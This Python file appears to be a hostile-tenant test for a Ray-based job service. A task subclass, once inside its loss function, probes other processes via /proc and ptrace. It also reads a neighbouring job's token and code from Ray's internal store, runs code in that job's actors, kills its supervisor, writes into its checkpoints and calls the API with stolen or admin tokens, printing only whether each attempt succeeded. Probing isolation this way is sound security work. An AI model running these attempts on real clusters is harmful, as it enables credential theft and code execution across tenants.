"""A task whose code looks for everything that is not its own, on each node of its cluster, and says what it reaches.

It knows more than an attacker would: HOSTILE_TARGETS in its environment, JSON, names the files of the service, the pids
of its processes, its address, and the job that is its neighbour. Each attempt is a function; what it returns is the way
in which it succeeded, an error is the refusal. One line is printed for each: HOSTILE ["name", is_reached, "how"].
No secret is printed. `Victim` is the neighbour, which trains slowly.
"""

import ctypes
import json
import os
import time
import urllib.error
import urllib.request
from pathlib import Path

import torch
from ray.experimental import internal_kv
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy
from torch import nn

import ray

TARGETS = json.loads(os.environ.get("HOSTILE_TARGETS", "{}"))
NAMESPACE = "shoal"
JOURNAL = b"shoal-journal"
_ATTACH, _DETACH = 16, 17


class Refused(Exception):
    """Something that should have been refused was not there, or gave nothing."""


# --- on one node: files and processes


def look_around(targets):
    """What this process can open. Runs in the worker, and in an actor without CPUs on each node."""
    found = {}
    for name, path in targets["files"].items():
        found[name] = attempt(read_file, path)
    for name, pid in targets["processes"].items():
        found[name] = attempt(look_into, pid)
    found["ray-token"] = attempt(token_of_ray)
    found["secrets-in-environments"] = attempt(search_proc, "environ", targets["secrets"])
    found["secrets-in-arguments"] = attempt(search_proc, "cmdline", targets["secrets"])
    return found


def token_of_ray():
    found = os.environ.get("RAY_AUTH_TOKEN") or Path(os.environ["RAY_AUTH_TOKEN_PATH"]).read_text()
    return f"{len(found)} characters"


def read_file(path):
    found = Path(path)
    if found.is_dir():
        return f"{len(list(found.iterdir()))} entries of {found.name}"
    with found.open("rb") as file:
        return f"{len(file.read(4096))} bytes of {found.name}"


def look_into(pid):
    """Environment, descriptors, memory and control of another process: reached is whatever of it works."""
    ways, reasons = [], []
    for way, look in (
        ("environ", lambda: Path(f"/proc/{pid}/environ").read_bytes()),
        ("fd", lambda: list(Path(f"/proc/{pid}/fd").iterdir())),
        ("mem", lambda: Path(f"/proc/{pid}/mem").open("rb").close()),
        ("ptrace", lambda: trace(pid)),
    ):
        try:
            look()
            ways.append(way)
        except OSError as error:
            reasons.append(f"{way}: {error.strerror}")
    if not ways:
        raise Refused("; ".join(reasons))
    return ", ".join(ways)


def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(_ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0x40000000)  # __WALL
    libc.ptrace(_DETACH, pid, None, None)


def search_proc(kind, secrets):
    """Whether a process that this one can read has one of these secrets. They are given backwards, not to be found."""
    readable, hits = 0, set()
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and int(folder.name) != os.getpid():
            try:
                content = (folder / kind).read_bytes()
            except OSError:
                continue
            readable += 1
            hits.update(name for name, mark in secrets.items() if mark[::-1].encode() in content)
    if not hits:
        raise Refused(f"not in {readable} processes")
    return ", ".join(sorted(hits))


def look_into_neighbour():
    """On its own node: the processes of the neighbour's workers, which are not hidden."""
    seen = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and int(folder.name) != os.getpid():
            try:
                if b"NEIGHBOURS_OWN" in (folder / "environ").read_bytes():
                    seen.append(folder.name)
            except OSError:
                continue
    if not seen:
        raise Refused("no process of its environment can be read")
    return f"environment of {len(seen)} processes"


# --- in the cluster


class Spy:
    def look_around(self, targets):
        return look_around(targets)

    def look_into_neighbour(self):
        return attempt(look_into_neighbour)


def actors_on_every_node():
    spies = []
    for node in ray.nodes():
        if node["Alive"]:
            for where in (
                {"label_selector": {"ray.io/node-id": node["NodeID"]}},
                {"scheduling_strategy": NodeAffinitySchedulingStrategy(node["NodeID"], soft=False)},
            ):
                spies.append(ray.remote(Spy).options(num_cpus=0, **where).remote())
    return spies


def key(name, namespace=JOURNAL):
    return internal_kv._internal_kv_get(name, namespace=namespace)


def config_of_neighbour():
    raw = key(f"{TARGETS['neighbour']}/1/config")
    if raw is None:
        raise Refused("the journal has no such key")
    return json.loads(raw)


def token_of_neighbour():
    return f"{len(config_of_neighbour()['home']['token'])} characters"


def journal_of_neighbour():
    keys = internal_kv._internal_kv_list(f"{TARGETS['neighbour']}/", namespace=JOURNAL)
    return f"{len([one for one in keys if key(one)])} keys"


def code_of_neighbour():
    keys = internal_kv._internal_kv_list(f"{TARGETS['neighbour']}/1/code/", namespace=JOURNAL)
    archive = key(b"code/" + keys[0].rpartition(b"/code/")[2]) if keys else None
    if archive is None or not archive.startswith(b"PK"):
        raise Refused("no archive")
    return f"an archive of {len(archive)} bytes"


def supervisor_of_neighbour():
    return ray.get_actor(f"shoal/{TARGETS['neighbour']}/1/supervisor", namespace=NAMESPACE)


def code_in_supervisor():
    pid = ray.get(supervisor_of_neighbour().__ray_call__.remote(lambda self: os.getpid()), timeout=30)
    assert pid != os.getpid()
    return "__ray_call__ ran in its process"


def code_in_worker_of_neighbour():
    names = [one["name"] for one in ray.util.list_named_actors(all_namespaces=True) if one["namespace"] == NAMESPACE]
    [name] = [name for name in names if name.startswith(f"shoal/{TARGETS['neighbour']}/1/worker")][:1] or [None]
    if name is None:
        raise Refused(f"no worker among {len(names)} actors")
    handle = ray.get_actor(name, namespace=NAMESPACE)
    secret = ray.get(handle.__ray_call__.remote(lambda self: os.environ["NEIGHBOURS_OWN"]), timeout=30)
    return f"its environment, {len(secret)} characters of it"


def kill_supervisor():
    ray.kill(supervisor_of_neighbour(), no_restart=False)
    return "ray.kill"


# --- at the service


def dial(method, path, token, body=None):
    headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {token}"} if token else {})}
    request = urllib.request.Request(TARGETS["url"] + path, body, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return f"{method} {path}: {answer.status}"
    except urllib.error.HTTPError as error:
        raise Refused(f"{method} {path}: {error.code}") from None


def each(*requests):
    """Reached as soon as one of them is."""
    reasons = []
    for request in requests:
        try:
            return request()
        except Refused as error:
            reasons.append(str(error))
    raise Refused("; ".join(reasons))


def own_token():
    _, job_id, number, _ = ray.get_runtime_context().get_actor_name().split("/")
    return job_id, number, json.loads(key(f"{job_id}/{number}/config"))["home"]["token"]


def users_api_with_own_token():
    _, _, token = own_token()
    neighbour = TARGETS["neighbour"]
    return each(
        lambda: dial("GET", "/v1/jobs", token),
        lambda: dial("GET", f"/v1/jobs/{neighbour}", token),
        lambda: dial("POST", f"/v1/jobs/{neighbour}/cancel", token),
        lambda: dial("GET", "/v1/tokens", token),
        lambda: dial("POST", "/v1/tokens", token, b'{"name": "mine", "role": "admin"}'),
        lambda: dial("GET", "/v1/audit", token),
        lambda: dial("GET", "/v1/cluster", token),
    )


def neighbours_attempt_with_own_token():
    job_id, number, token = own_token()
    neighbour = f"/v1/jobs/{TARGETS['neighbour']}/attempts/1"
    return each(
        lambda: dial("GET", f"{neighbour}/directive", token),
        lambda: dial("POST", f"{neighbour}/reports", token, b'{"life": 999, "after": 0}'),
        lambda: dial("GET", f"/v1/jobs/{job_id}/attempts/{int(number) + 1}/directive", token),
    )


def orders_with(token):
    cluster = f"/v1/clusters/{TARGETS['cluster']}"
    return each(
        lambda: dial("GET", f"{cluster}/orders?life=0123456789abcdef&after=0&wait_s=0", token),
        lambda: dial("POST", f"{cluster}/reports", token, b"{}"),
        lambda: dial("GET", f"{cluster}/archives/{'0' * 64}", token),
    )


def orders_with_own_token():
    return orders_with(own_token()[2])


def directive_with_neighbours_token():
    token = config_of_neighbour()["home"]["token"]
    return dial("GET", f"/v1/jobs/{TARGETS['neighbour']}/attempts/1/directive?after=0&wait_s=0", token)


def users_api_with_neighbours_token():
    token = config_of_neighbour()["home"]["token"]
    return each(
        lambda: dial("GET", "/v1/jobs", token),
        lambda: dial("POST", f"/v1/jobs/{TARGETS['neighbour']}/cancel", token),
        lambda: dial("GET", f"/v1/clusters/{TARGETS['cluster']}/orders?life=0123456789abcdef&after=0&wait_s=0", token),
    )


def api_as_admin():
    return dial("GET", "/v1/tokens", Path(TARGETS["files"]["admin-token"]).read_text().strip())


def orders_as_gateway():
    token = Path(TARGETS["files"]["gateway-token"]).read_text().strip()
    cluster = f"/v1/clusters/{TARGETS['cluster']}"
    try:
        return dial("GET", f"{cluster}/orders?life=0123456789abcdef&after=0&wait_s=0", token)
    except Refused as error:
        if str(error).endswith(": 409"):
            return "accepted; another life of the gateway speaks for the cluster"
        raise


def checkpoints_of_neighbour():
    [folder] = [one for one in Path(TARGETS["checkpoints"]).iterdir() if one.name == TARGETS["neighbour"]]
    (folder / "left-by-another").touch()
    (folder / "left-by-another").unlink()
    return f"{len(list(folder.iterdir()))} entries, and can write there"


def attempt(function, *arguments):
    try:
        return [True, str(function(*arguments))]
    except Exception as error:
        return [False, f"{type(error).__name__}: {error}"[:300]]


def attack():
    found = look_around(TARGETS)
    try:
        spies = actors_on_every_node()
        seen = ray.get([spy.look_around.remote(TARGETS) for spy in spies], timeout=120)
        found["actor-on-every-node"] = [True, f"{len(seen)} actors"]
        around = ray.get([spy.look_into_neighbour.remote() for spy in spies], timeout=120)
        found["neighbours-environment"] = next((one for one in around if one[0]), around[0])
        for one in seen:
            for name, answer in one.items():
                if answer[0] and not found[name][0]:
                    found[name] = answer
    except Exception as error:
        found["actor-on-every-node"] = [False, f"{type(error).__name__}: {error}"[:300]]
    for name, function in {
        "neighbours-token": token_of_neighbour,
        "neighbours-journal": journal_of_neighbour,
        "neighbours-code": code_of_neighbour,
        "neighbours-supervisor": code_in_supervisor,
        "neighbours-worker": code_in_worker_of_neighbour,
        "neighbours-checkpoints": checkpoints_of_neighbour,
        "api-with-own-token": users_api_with_own_token,
        "attempts-with-own-token": neighbours_attempt_with_own_token,
        "orders-with-own-token": orders_with_own_token,
        "attempt-with-neighbours-token": directive_with_neighbours_token,
        "api-with-neighbours-token": users_api_with_neighbours_token,
        "api-as-admin": api_as_admin,
        "orders-as-gateway": orders_as_gateway,
        "kill-neighbours-supervisor": kill_supervisor,
    }.items():
        found[name] = attempt(function)
    return found


class Victim:
    def __init__(self, *, model, data, seed):
        pass

    def build_model(self):
        return nn.Linear(2, 1)

    def build_dataset(self, split):
        return torch.utils.data.TensorDataset(torch.randn(16, 2)) if split == "train" else None

    def loss(self, model, batch):
        time.sleep(0.05)
        return model(batch[0]).square().mean()


class Task(Victim):
    is_done = False

    def loss(self, model, batch):
        if not self.is_done:
            self.is_done = True
            for name, (is_reached, how) in attack().items():
                print(f"HOSTILE {json.dumps([name, is_reached, how])}", flush=True)
        return model(batch[0]).square().mean()
